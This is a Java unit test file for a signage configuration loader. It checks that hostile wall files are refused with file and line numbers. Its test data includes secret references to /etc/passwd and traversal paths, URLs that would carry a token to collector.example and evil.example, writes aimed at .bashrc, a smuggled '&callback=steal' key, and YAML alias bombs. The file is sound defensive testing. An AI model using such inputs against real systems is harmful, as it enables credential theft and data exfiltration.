package org.pulsewall.config;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A configuration is data: each way a wall file could reach beyond the wall is refused with file:line. */
class HostileConfigTest {
    private static final String STRONG = "3f9a0c41d27e8b56a1c0ffee5d4b9e72";
    private static final String SCREENS = "screens:\n  - { monitor: 1, playlist: lobby }\n";
    @TempDir
    Path dir;
    @TempDir
    Path credentials;
    private Path state;
    private Secrets secrets;

    @BeforeEach
    void setUp() throws IOException {
        state = dir.resolve("state");
        Files.createDirectories(dir.resolve("playlists"));
        Files.createDirectories(dir.resolve("themes"));
        Files.createDirectories(dir.resolve("media"));
        Files.createDirectories(dir.resolve("secrets"));
        Files.writeString(dir.resolve("themes/brand.css"), ".pw-screen { }");
        Files.write(dir.resolve("media/campaign.png"), new byte[] {1, 2, 3});
        Files.writeString(dir.resolve("secrets/listening"), "tok-123");
        Files.writeString(dir.resolve("token.txt"), "outside");
        Files.writeString(credentials.resolve("ops.token"), STRONG);
        Files.writeString(dir.resolve("playlists/lobby.yaml"), "items:\n  - { scene: mention-wall, duration: 10s }\n");
        secrets = new Secrets(Map.of("T", "env-token", "CREDENTIALS_DIRECTORY", credentials.toString())::get);
    }

    private List<String> problems(TrustPolicy policy, String wall) throws IOException {
        Files.writeString(dir.resolve("wall.yaml"), wall);
        ConfigChecks checks = new ConfigChecks(s -> List.of(), q -> Optional.empty());
        try {
            new WallConfigLoader(checks, state.resolve("cache"), policy).load(ConfigBase.directory(dir));
            return List.of();
        } catch (ConfigException e) {
            return e.problems().stream().map(ConfigProblem::toString).toList();
        }
    }

    private List<String> local(String wall) throws IOException {
        return problems(TrustPolicy.local(secrets, state), wall);
    }

    private List<String> fetched(String wall) throws IOException {
        return problems(TrustPolicy.fetched(secrets, state), wall);
    }

    @Test
    void secretsFromTheSecretsDirectoryAndCredentialsAreAccepted() throws IOException {
        assertThat(local("""
                sources:
                  - { id: l, type: http-json, url: "https://l.example/api", headers: { Authorization: "Bearer ${file:secrets/listening}" } }
                ops: { token: "${file:ops.token}" }
                """ + SCREENS)).isEmpty();
    }

    @Test
    void refusesAFileSecretOutsideTheSecretsDirectoryNamingFileAndLine() throws IOException {
        assertThat(local("""
                sources:
                  - { id: a, type: http-json, url: "https://l.example/api", headers: { X: "${file:token.txt}" } }
                  - { id: b, type: http-json, url: "https://l.example/api", headers: { X: "${file:/etc/passwd}" } }
                  - { id: c, type: http-json, url: "https://l.example/api", headers: { X: "${file:secrets/../token.txt}" } }
                """ + SCREENS))
                .anyMatch(p -> p.matches(".*wall\\.yaml:2: secret file token\\.txt is outside the secrets directories.*"))
                .anyMatch(p -> p.matches(".*wall\\.yaml:3: secret file /etc/passwd is outside.*"))
                .anyMatch(p -> p.matches(".*wall\\.yaml:4: secret file secrets/\\.\\./token\\.txt is outside.*"));
    }

    @Test
    void refusesASecretInAUrl() throws IOException {
        assertThat(local("""
                sources:
                  - id: leak
                    type: http-json
                    url: "https://collector.example/x?t=${env:T}"
                  - { id: leak2, type: sse, url: "https://s.example/", headers: { Referer: "https://evil.example/${env:T}" } }
                """ + SCREENS))
                .anyMatch(p -> p.matches(".*wall\\.yaml:4: a secret may not be part of a URL \\(sources\\[]\\.url\\).*"))
                .anyMatch(p -> p.matches(".*wall\\.yaml:5: a secret may not be part of a URL \\(sources\\[]\\.headers\\.Referer\\).*"));
    }

    @Test
    void refusesProofOfPlayAndCacheOutsideTheStateDirectory() throws IOException {
        assertThat(local("""
                ops: { token: %s, proofOfPlay: /home/kiosk/.profile }
                store: { cache: ../../../.bashrc }
                """.formatted(STRONG) + SCREENS))
                .anyMatch(p -> p.matches(".*wall\\.yaml:1: '/home/kiosk/\\.profile' must stay inside the state directory.*"))
                .anyMatch(p -> p.matches(".*wall\\.yaml:2: '\\.\\./\\.\\./\\.\\./\\.bashrc' must stay inside the state directory.*"));
        assertThat(local("ops: { token: %s, proofOfPlay: logs/pop.ndjson }\nstore: { cache: c.ndjson }\n"
                .formatted(STRONG) + SCREENS)).isEmpty();
    }

    @Test
    void refusesPlaylistThemeMediaAndLocationsOutsideTheConfigDirectory() throws IOException {
        Files.writeString(dir.resolve("playlists/media.yaml"), """
                items:
                  - { scene: image, file: /etc/passwd, duration: 10s }
                  - { scene: image, file: media/../../outside.png, duration: 10s }
                """);
        assertThat(local("""
                locations: { handles: /etc/hosts }
                screens:
                  - { monitor: 1, playlist: ../../etc/lobby }
                  - { monitor: 2, playlist: media, theme: ../brand }
                """))
                .anyMatch(p -> p.matches(".*wall\\.yaml:1: path '/etc/hosts' must be relative to the configuration directory"))
                .anyMatch(p -> p.matches(".*wall\\.yaml:3: playlist name '\\.\\./\\.\\./etc/lobby' may hold only.*"))
                .anyMatch(p -> p.matches(".*wall\\.yaml:4: theme name '\\.\\./brand' may hold only.*"))
                .anyMatch(p -> p.matches(".*media\\.yaml:2: media path '/etc/passwd' must be relative.*"))
                .anyMatch(p -> p.matches(".*media\\.yaml:3: media path 'media/\\.\\./\\.\\./outside\\.png' must stay inside.*"));
    }

    @Test
    void refusesAShortOpsTokenWithoutQuotingIt() throws IOException {
        assertThat(local("ops: { token: a }\n" + SCREENS)).singleElement().asString()
                .matches(".*wall\\.yaml:1: the ops token holds about 0 bits; at least 128 are needed.*");
        assertThat(local("ops: { token: 0123456789abcdef }\n" + SCREENS)).singleElement().asString()
                .contains("about 64 bits").doesNotContain("0123456789abcdef");
    }

    @Test
    void refusesAWordLongerThanAWordAndAListLongerThanTheCap() throws IOException {
        String word = "x".repeat(20_000);
        assertThat(local("moderation:\n  extraWords:\n    - ok\n    - " + word + "\n" + SCREENS)).singleElement().asString()
                .matches(".*wall\\.yaml:4: extraWords: an entry of 20000 characters; at most 100");
        String many = "[" + "w,".repeat(ConfigGuard.MAX_LIST_SIZE) + "w]";
        assertThat(local("moderation:\n  allow: { nl: " + many + " }\n" + SCREENS)).singleElement().asString()
                .contains("wall.yaml:2:").contains("at most 10000");
    }

    @Test
    void aFetchedSetMayNotReadTheEnvironmentNorPlaceSecretsBeyondHeaders() throws IOException {
        String wall = """
                sources:
                  - { id: a, type: http-json, url: "https://l.example/api", headers: { Authorization: "Bearer ${env:T}" } }
                  - { id: k, type: kafka, bootstrap: "k.example:9092", security: { password: "${file:ops.token}" } }
                ops: { token: "${file:ops.token}", listen: "0.0.0.0:8765" }
                """ + SCREENS;
        assertThat(fetched(wall))
                .anyMatch(p -> p.matches(".*wall\\.yaml:2: \\$\\{env:T} is not allowed in a fetched configuration set.*"))
                .anyMatch(p -> p.matches(".*wall\\.yaml:3: a fetched configuration set may use a secret only in a source's"
                        + " headers, ops.token or a map's key, not in sources\\[]\\.security\\.password"))
                .anyMatch(p -> p.matches(".*wall\\.yaml:4: a fetched configuration set may open the ops endpoint on loopback only.*"))
                .hasSize(3);
        assertThat(local(wall)).isEmpty();
    }

    @Test
    void aMapKeyIsHeldToTheRulesOfEverySecret() throws IOException {
        Files.writeString(dir.resolve("playlists/lobby.yaml"), """
                items:
                  - { scene: map, provider: google, duration: 10s, key: "${file:secrets/listening}" }
                  - { scene: map, provider: google, duration: 10s, key: "${file:/etc/passwd}" }
                  - { scene: map, provider: google, duration: 10s, key: "AIzaSyA1b2C3&callback=steal" }
                  - { scene: map, provider: google, duration: 10s, key: "x${env:T}" }
                  - { scene: map, provider: google, duration: 10s, key: AIzaSyA1b2C3d4E5f6G7h8 }
                  - { scene: map, provider: google, duration: 10s, key: "${env:T}" }
                """);
        String lobby = dir.resolve("playlists/lobby.yaml").toString();

        assertThat(local(SCREENS)).containsExactly(
                lobby + ":3: secret file /etc/passwd is outside the secrets directories ("
                        + List.of(dir.resolve("secrets"), credentials) + ")",
                lobby + ":4: key must be an API key (letters, digits, '-' and '_') or a secret reference such as"
                        + " ${file:maps-key}, not a URL or other text",
                lobby + ":5: key must be one secret reference such as ${file:maps-key}, with nothing around it");
        assertThat(fetched(SCREENS))
                .anyMatch(p -> p.startsWith(lobby + ":6: a fetched configuration set may not carry an API key written out"))
                .anyMatch(p -> p.startsWith(lobby + ":7: ${env:T} is not allowed in a fetched configuration set"))
                .noneMatch(p -> p.startsWith(lobby + ":2:"))
                .noneMatch(p -> p.contains("AIzaSyA1b2C3"))
                .hasSize(5);
    }

    @Test
    void aMegabyteWordRepeatedByAliasesIsRefusedWithoutFillingTheHeap() throws IOException {
        String word = "y".repeat(1_000_000);
        String aliases = "    - *w\n".repeat(2_000);
        long before = Runtime.getRuntime().totalMemory() - Runtime.getRuntime().freeMemory();

        List<String> problems = local("moderation:\n  extraWords:\n    - &w " + word + "\n" + aliases + SCREENS);

        assertThat(problems).hasSize(3).allMatch(p -> p.contains("an entry of 1000000 characters; at most 100"));
        assertThat(problems.get(0)).contains("wall.yaml:3:");
        long after = Runtime.getRuntime().totalMemory() - Runtime.getRuntime().freeMemory();
        assertThat(after - before).isLessThan(512L << 20);
    }

    @Test
    void aCollectionAliasBombIsRefusedByTheParser() throws IOException {
        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'k'; c++) {
            char prev = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [").append(("*" + prev + ", ").repeat(9)).append('*').append(prev)
                    .append("]\n");
        }
        assertThat(local("moderation:\n  allow:\n    " + bomb.toString().replace("\n", "\n    ") + "\n" + SCREENS))
                .singleElement().asString().contains("wall.yaml").containsIgnoringCase("alias");
    }

    @Test
    void aConfigDirectoryFindsNothingOutsideItself() throws IOException {
        ConfigBase base = ConfigBase.directory(dir.resolve("playlists"));

        assertThat(base.read("../token.txt")).isEmpty();
        assertThat(base.url("/etc/hostname")).isEmpty();
        assertThat(base.path("../../x")).isEmpty();
        assertThat(base.read("lobby.yaml")).isPresent();
    }
}
